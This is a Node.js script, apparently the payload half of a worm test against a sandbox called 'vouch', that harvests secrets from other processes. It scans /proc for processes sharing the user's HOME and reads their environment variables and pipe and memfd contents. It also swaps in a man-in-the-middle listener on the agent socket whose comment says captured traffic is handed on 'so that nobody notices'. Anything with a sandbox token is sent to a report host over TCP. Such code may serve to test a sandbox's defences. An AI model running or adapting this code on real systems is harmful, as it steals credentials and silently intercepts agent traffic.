// What a worm leaves behind: started by the next command, or waiting in the background for it.
"use strict";
const fs = require("node:fs");
const net = require("node:net");
const path = require("node:path");

const settings = JSON.parse(fs.readFileSync(path.join(__dirname, "settings.json"), "utf8"));
const name = process.argv[2];
const until = Date.now() + 40_000;

function report(text) {
  const socket = net.connect(settings.report, () => socket.end(`${settings.worm}\t${name}\n${text}`));
  socket.on("error", () => {});
}
const attempt = (read) => {
  try {
    return read();
  } catch (error) {
    return String(error.code);
  }
};

function readPipe(file) {
  const descriptor = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
  try {
    const bytes = Buffer.alloc(65_536);
    return bytes.toString("latin1", 0, fs.readSync(descriptor, bytes, 0, bytes.length, null));
  } finally {
    fs.closeSync(descriptor);
  }
}

function descriptorsOf(pid) {
  const folder = `/proc/${pid}/fd`;
  const names = attempt(() => fs.readdirSync(folder));
  if (!Array.isArray(names)) return "";
  const targets = names.map((fd) => attempt(() => fs.readlinkSync(`${folder}/${fd}`)));
  // As in worm.cjs: a pipe that one process has both ends of is its own affair.
  const isWorthIt = (target) =>
    /^(pipe:|\/memfd:)/.test(target) && targets.indexOf(target) === targets.lastIndexOf(target);
  return names
    .filter((_, index) => isWorthIt(targets[index]))
    .map((fd) => attempt(() => readPipe(`${folder}/${fd}`)))
    .join("");
}

function watch(look) {
  const seen = new Set();
  const round = () => {
    if (Date.now() > until) process.exit(0);
    for (const pid of fs.readdirSync("/proc").filter((one) => /^\d+$/.test(one))) {
      const environment = attempt(() => fs.readFileSync(`/proc/${pid}/environ`, "latin1"));
      if (Number(pid) === process.pid || !environment.includes(`\0HOME=${process.env.HOME}\0`)) continue;
      const got = look(pid, environment);
      if (got.includes("vouch-sandbox-token") && !seen.has(pid)) report(got);
      if (got.includes("vouch-sandbox-token")) seen.add(pid);
    }
    setImmediate(round);
  };
  round();
}

switch (name) {
  case "later-environments":
    watch((_, environment) => environment);
    break;
  case "pipe-race":
    watch(descriptorsOf);
    break;
  case "replace-socket": {
    const socketPath = path.join(process.env.VOUCH_RUNTIME_DIR, "agent.sock");
    net
      .createServer((socket) => {
        // What comes is reported and handed on, so that nobody notices.
        const real = net.connect(`${socketPath}.real`);
        socket.on("data", (data) => report(data.toString("latin1"))).on("error", () => {});
        real.on("data", (data) => report(data.toString("latin1"))).on("error", () => {});
        socket.pipe(real).pipe(socket);
      })
      .listen(socketPath);
    setTimeout(() => process.exit(0), 40_000);
    break;
  }
  default:
    report(`${JSON.stringify(process.env)}\n${process.argv.join(" ")}\n${descriptorsOf("self")}`);
}
